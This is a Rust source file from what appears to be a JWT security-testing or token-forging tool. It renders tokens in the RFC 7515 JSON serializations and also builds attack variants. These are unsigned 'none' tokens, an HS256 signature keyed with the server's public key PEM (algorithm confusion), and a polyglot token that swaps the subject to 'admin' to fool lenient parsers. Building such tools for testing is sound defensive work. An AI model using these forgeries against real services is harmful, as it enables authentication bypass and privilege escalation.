//! The JSON serializations (RFC 7515, section 7.2).

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

use super::assemble::{Segments, encode};
use super::context::{ForgeContext, ForgeError};
use crate::json::Object;
use crate::keys::{Algorithm, PublicForm, hmac};
use crate::mutation::{Segment, Serialization};

/// The token in another form than the compact one.
pub(super) fn wrap(form: Serialization, segments: &Segments, context: &ForgeContext) -> Result<Vec<u8>, ForgeError> {
    let [header, payload, signature] =
        [Segment::Header, Segment::Payload, Segment::Signature].map(|segment| segments.text(segment));
    let flattened = || {
        Object::new()
            .with("payload", payload.as_str())
            .with("protected", header.as_str())
            .with("signature", signature.as_str())
    };
    let general = || {
        let entry = Object::new().with("protected", header.as_str()).with("signature", signature.as_str());
        let mut object = Object::new().with("payload", payload.as_str());
        object.set("signatures", format!("[{}]", entry.to_text()));
        object
    };
    Ok(match form {
        Serialization::Flattened => flattened().to_text().into_bytes(),
        Serialization::General => general().to_text().into_bytes(),
        Serialization::FlattenedBase64 => encode(flattened().to_text().as_bytes()),
        Serialization::GeneralBase64 => encode(general().to_text().as_bytes()),
        Serialization::UnprotectedNone => unprotected("none", &payload, ""),
        Serialization::UnprotectedHs256 => {
            let pem = context.public_form(PublicForm::SpkiPem)?;
            // RFC 7515, section 5.1: without a protected header its part is empty.
            let signature = hmac(Algorithm::Hs256, &pem, format!(".{payload}").as_bytes());
            unprotected("HS256", &payload, &URL_SAFE_NO_PAD.encode(signature))
        }
        Serialization::Polyglot { fill } => polyglot(&"~".repeat(fill), &header, &payload, &signature),
        Serialization::PolyglotLeadingSpace => polyglot(" ", &header, &payload, &signature),
    })
}

fn unprotected(algorithm: &str, payload: &str, signature: &str) -> Vec<u8> {
    let mut object = Object::new().with("payload", payload);
    object.set("header", Object::new().with("alg", algorithm).to_text());
    object.with("signature", signature).to_text().into_bytes()
}

/// The payload for the lenient parser: the real claims, another subject.
fn polyglot(lead: &str, header: &str, payload: &str, signature: &str) -> Vec<u8> {
    let claims = URL_SAFE_NO_PAD.decode(payload).unwrap_or_default();
    let evil = match serde_json::from_slice(&claims) {
        Ok(serde_json::Value::Object(mut claims)) => {
            claims.insert("sub".to_owned(), "admin".into());
            URL_SAFE_NO_PAD.encode(serde_json::Value::Object(claims).to_string())
        }
        _ => payload.to_owned(),
    };
    let name = format!("{lead}{header}.{evil}.");
    format!(
        "{{{}:\"\",\"protected\":{},\"payload\":{},\"signature\":{}}}",
        crate::json::quote(&name),
        crate::json::quote(header),
        crate::json::quote(payload),
        crate::json::quote(signature)
    )
    .into_bytes()
}
